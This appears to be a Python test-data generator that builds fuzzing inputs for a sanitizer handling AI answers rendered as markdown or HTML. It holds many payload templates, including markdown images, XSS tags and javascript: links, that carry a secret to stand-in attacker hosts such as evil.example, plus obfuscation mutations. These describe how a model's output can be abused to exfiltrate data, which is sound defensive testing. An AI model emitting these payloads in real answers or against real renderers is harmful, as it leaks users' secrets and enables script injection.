"""Ways to carry a secret out of an answer without anybody noticing, or to run something where it is shown.

`{d}` stands for what is carried away, `{h}` for where to. One line per way; what is made of them is data, never code.
"""

import random
from collections.abc import Iterator

HOSTS = (
    "evil.example",
    "evil-canary.com",
    "203.0.113.9",
    "xn--e1awd7f.com",
    "evil-canary.md",
    "evil。example",
    "ｅvil.example",
)

IMAGES = (
    "![x](https://{h}/p.png?d={d})",
    "![x](//{h}/{d})",
    "![x](<https://{h}/{d}>)",
    '![x](https://{h}/{d} "title")',
    "![x]( https://{h}/{d} )",
    "![x\ny](https://{h}/{d})",
    "![x][r]\n\n[r]: https://{h}/{d}",
    "![r][]\n\n[r]: <https://{h}/{d}>",
    "![r]\n\n[r]:\n  https://{h}/{d}\n  'title'",
    "![[https://{h}/{d}.png]]",
    "[![x](https://{h}/{d})](https://{h}/)",
    "![x](\\https://{h}/{d})",
    "![x](https&#58;//{h}/{d})",
    "![x](&#104;ttps&colon;//{h}/{d})",
    "!\u200b[x](https://{h}/{d})",
    "![a]![b](https://{h}/{d})(https://{h}/{d})",
    "| a | b |\n|---|---|\n| ![x](//{h}/{d}) | <img src=//{h}/{d}> |",
    "- > ![x](//{h}/{d})",
    "# ![x](//{h}/{d})",
    "![x](/logout?d={d})",
    "![x](ftp://{h}/{d})",
    "![x](https:\\\\{h}\\{d})",
    "![x](/\\{h}/{d})",
)
LINKS = (
    "[click](https://{h}/{d})",
    "[click](<javascript:fetch('//{h}/{d}')>)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&Tab;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](/logout)",
    "[click](#x)",
    "[click][1]\n\n[1]: https://{h}/{d}",
    "[click] [1]\n\n[1]: https://{h}/{d}",
    "[1]: https://{h}/{d}\n\n[1]",
    "> [1]: https://{h}/{d}\n\n[1]",
    "- [1]: https://{h}/{d}\n\n[1]",
    "1. [1]: https://{h}/{d}\n\n[1]",
    "> - [1]: https://{h}/{d}\n\n[1]",
    "[a\nb]: /logout\n\n[a b]",
    "[a\\]b]: /logout\n\n[a\\]b]",
    "  [1]:https://{h}/{d}\n\n[x][1]",
    "[^1]\n\n[^1]: https://{h}/{d} and [x](//{h}/{d})",
    "x^[https://{h}/{d}]",
    "*[HTML]: https://{h}/{d}\n\nHTML",
    "<https://{h}/{d}>",
    "<evil+scheme:{d}>",
    "<a@{h}>",
    "[[{h}/{d}]]",
    "[[logout]] [[a|b]] ![[b]]",
    "[click]{{href=https://{h}/{d}}}",
    '**x**{{: href="https://{h}/{d}" onclick="alert(1)"}}',
    "[a](\n/logout\n)",
    "[a](/x(y(z))",
    "[a](<b)c>)",
    "[click](https://{h}/{d}",
    "\\[click\\]\\(https://{h}/{d}\\)",
    "[a]\u2060(https://{h}/{d})",
    "]8;;https://{h}/{d}\x07click]8;;\x07",
    "\x1b]8;;https://{h}/{d}\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[31m[x](//{h}/{d})\x9b0m",
)
ADDRESSES = (
    "https://{h}/{d}",
    "HTTPS://{h}/{d}",
    "https\\://{h}/{d}",
    "https\\:\\/\\/{h}/{d}",
    "&#104;ttps://{h}/{d}",
    "&#x68ttps&colon;//{h}/{d}",
    "&amp;#104;ttps://{h}/{d}",
    "https&colon;&sol;&sol;{h}/{d}",
    "ht\u200btps://{h}/{d}",
    "ht\u00adtps://{h}/{d}",
    "h\U000e0074ttps://{h}/{d}",
    "http:/\u202e/{h}/{d}",
    "http:\uff0f\uff0f{h}/{d}",
    "https\u2236//{h}/{d}",
    "www.{h}/{d}",
    "{h}/x?d={d}",
    "{h}\u2044x?d={d}",
    "{h}:8443/{d}",
    "//{h}/{d}",
    "\\\\{h}\\{d}",
    "ftp://{h}/{d}",
    "mailto:a@{h}?subject={d}",
    "xmpp:a@{h}/{d}",
    "tel:+15551234567",
    "sms:+15551234567?body={d}",
    "ms-word:ofe|u|https://{h}/{d}.docx",
    "smb://{h}/{d}",
    "user:{d}@{h}/x",
    "{d}.{h}",
    "{d}@{h}",
    "see:https://{h}/{d}.",
    "(https://{h}/{d})",
    "`https://{h}/{d}`",
    "**https://{h}/{d}**",
    "ht**tps://{h}/{d}**",
    "_{h}/{d}_",
    "~~{h}~~ =={h}== {h}|{h}",
)
ELEMENTS = (
    "<img src=https://{h}/{d}>",
    "<img src='//{h}/{d}'",
    "<IMG/SRC=//{h}/{d}>",
    "<img srcset='//{h}/{d} 1x'>",
    "<picture><source srcset=//{h}/{d}><img></picture>",
    "<img src=x onerror=fetch('//{h}/{d}')>",
    "<svg onload=fetch('//{h}/{d}')>",
    "<svg><image href=//{h}/{d}></svg>",
    "<svg><use href=//{h}/{d}#x></svg>",
    "<svg><script>fetch('//{h}/{d}')</script></svg>",
    "<script>fetch('https://{h}/{d}')</script>",
    "<script src=//{h}/{d}></script>",
    "<iframe src=//{h}/{d}></iframe>",
    "<iframe srcdoc='<script>fetch(\"//{h}/{d}\")</script>'></iframe>",
    "<object data=//{h}/{d}></object>",
    "<embed src=//{h}/{d}>",
    "<video src=//{h}/{d} autoplay></video>",
    "<audio src=//{h}/{d} autoplay></audio>",
    "<video poster=//{h}/{d}></video>",
    "<link rel=stylesheet href=//{h}/{d}>",
    "<link rel=prefetch href=//{h}/{d}>",
    "<link rel=icon href=//{h}/{d}>",
    "<style>@import url(//{h}/{d});</style>",
    "<style>body{{background:url(//{h}/{d})}}</style>",
    "<div style='background:url(//{h}/{d})'>x</div>",
    "<div style=\"background-image:image-set('//{h}/{d}' 1x)\">x</div>",
    "<table background=//{h}/{d}><tr><td>x</table>",
    "<body background=//{h}/{d} onload=fetch('//{h}/{d}')>",
    "<input type=image src=//{h}/{d}>",
    "<input autofocus onfocus=fetch('//{h}/{d}')>",
    "<details open ontoggle=fetch('//{h}/{d}')>x</details>",
    "<form action=//{h}/{d}><button>x</button></form>",
    "<a href=//{h}/{d} ping=//{h}/{d}>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    "<math><a xlink:href=//{h}/{d}>x</a></math>",
    "<portal src=//{h}/{d}></portal>",
    "<x-tag onclick=alert(1)>x</x-tag>",
    "<img src=`//{h}/{d}`>",
    "<<b>img src=//{h}/{d}>",
    "<<<<b>b>b>img src=//{h}/{d}>",
    "<im<!-- -->g src=//{h}/{d}>",
    "&lt;img src=//{h}/{d}&gt;",
    "&amp;lt;img src=//{h}/{d}&amp;gt;",
    "\\<img src=//{h}/{d}>",
    "&`#60;img src=//{h}/{d}&`gt;",
    "<i`mg src=//{h}/{d}>",
    "<\u200bimg src=//{h}/{d}>",
    "<!--><img src=//{h}/{d}>-->",
    "<![CDATA[<img src=//{h}/{d}>]]>",
    "<?xml-stylesheet href='//{h}/{d}'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '//{h}/{d}'>]>",
    "<noscript><p title='</noscript><img src=x onerror=fetch(\"//{h}/{d}\")>'></noscript>",
    "<template><img src=//{h}/{d}></template>",
    "<marquee onstart=fetch('//{h}/{d}')>x</marquee>",
    "<img\nsrc=//{h}/{d}\n>",
    "<img alt='>' src=//{h}/{d}>",
    "<div\n\nonclick=alert(1)>x</div>",
    "</p><img src=//{h}/{d}>",
)
BLOCKS = (
    "```html\n<img src=//{h}/{d}>\n```",
    '```mermaid\ngraph TD\nA-->B\nclick A "https://{h}/{d}"\n```',
    "```mermaid\ngraph TD\nA[\"<img src='//{h}/{d}'>\"]\n```",
    "```mermaid\nclick A call fetch()\n```",
    '```dot\ndigraph {{ a [URL="https://{h}/{d}", image="//{h}/{d}"] }}\n```',
    "```plantuml\n!include https://{h}/{d}\n```",
    "```svg\n<svg onload=fetch('//{h}/{d}')>\n```",
    '~~~jsx\n<img src="//{h}/{d}"/>\n~~~',
    "```{{image}} https://{h}/{d}\n```",
    '```{{.x onclick="alert(1)"}}\nx\n```',
    ".. image:: https://{h}/{d}",
    ":::{{image}} https://{h}/{d}\n:::",
    "$\\href{{https://{h}/{d}}}{{x}}$",
    "$$\\includegraphics{{https://{h}/{d}}}$$",
    "\\url{{https://{h}/{d}}} \\htmlStyle{{background:url(//{h}/{d})}}{{x}}",
    "{{{{constructor.constructor('fetch(\"//{h}/{d}\")')()}}}}",
    "{{% include '//{h}/{d}' %}}",
    "    <img src=//{h}/{d}>",
    "x\n===\n<img src=//{h}/{d}>\n---",
    "`<img src=//{h}/{d}>`",
    "`` ` {h}/{d} ` ``",
    "a ` b {h} c ` d {h} `",
    "``` a\n{h}\n``` b ` {h}",
    "| `a | {h} | b` |\n|---|---|---|\n| `x | {h} | y` |",
    "\\` {h} ` {h} \\`",
)
REFRESHES = ("<meta http-equiv=refresh content='0;url=https://{h}/{d}'>", "<base href=https://{h}/>\n\n![x](/{d})")
"""What sends a whole page elsewhere: nothing else on it is looked at afterwards."""
WAYS = IMAGES + LINKS + ADDRESSES + ELEMENTS + BLOCKS + REFRESHES
_WRAPPINGS = (
    "{}", "The budget is 12 EUR. {}", "> {}", "- {}", "1. {}", "**{}**", "| {} |\n|---|", "`{}", "[{}]", "({})",
    "{}\n{}", "# {}", "{}.", "<b>{}", "a{}b", "_{}_", "\\{}", "!{}", "[x]{}", "&{}",
)  # fmt: skip


def hostile(count: int, seed: int, data: str = "c2VjcmV0") -> list[str]:
    """So many hostile texts: each way once, then in odd places, with one another, with pieces lost or doubled."""
    rng = random.Random(seed)
    texts = [way.format(h=HOSTS[number % len(HOSTS)], d=data) for number, way in enumerate(WAYS)]
    return [*texts, *_variations(rng, data, count - len(texts))][:count]


def _variations(rng: random.Random, data: str, count: int) -> Iterator[str]:
    for _ in range(count):
        text = rng.choice(WAYS).format(h=rng.choice(HOSTS), d=data)
        for _ in range(rng.choice((1, 1, 2, 3))):
            text = rng.choice(_CHANGES)(rng, text, data)
        yield text


def _wrapped(rng: random.Random, text: str, data: str) -> str:
    return rng.choice(_WRAPPINGS).replace("{}", text)


def _inside(rng: random.Random, text: str, data: str) -> str:
    at = rng.randrange(len(text) + 1)
    return text[:at] + rng.choice(WAYS).format(h=rng.choice(HOSTS), d=data) + text[at:]


def _lost(rng: random.Random, text: str, data: str) -> str:
    at = rng.randrange(len(text) + 1)
    return text[:at] + text[at + rng.choice((1, 1, 2, 5)) :]


def _doubled(rng: random.Random, text: str, data: str) -> str:
    start = rng.randrange(len(text) + 1)
    end = start + rng.choice((1, 2, 5))
    return text[:end] + text[start:end] + text[end:]


def _sown(rng: random.Random, text: str, data: str) -> str:
    at = rng.randrange(len(text) + 1)
    return text[:at] + rng.choice("\u200b\u00ad\u2060\u202e\ufe0f\n\t \\`*_[]()<>!&;:|{}=\"'") + text[at:]


def _joined(rng: random.Random, text: str, data: str) -> str:
    return text + rng.choice(("", " ", "\n", "\n\n")) + rng.choice(WAYS).format(h=rng.choice(HOSTS), d=data)


_CHANGES = (_wrapped, _inside, _lost, _doubled, _sown, _joined)
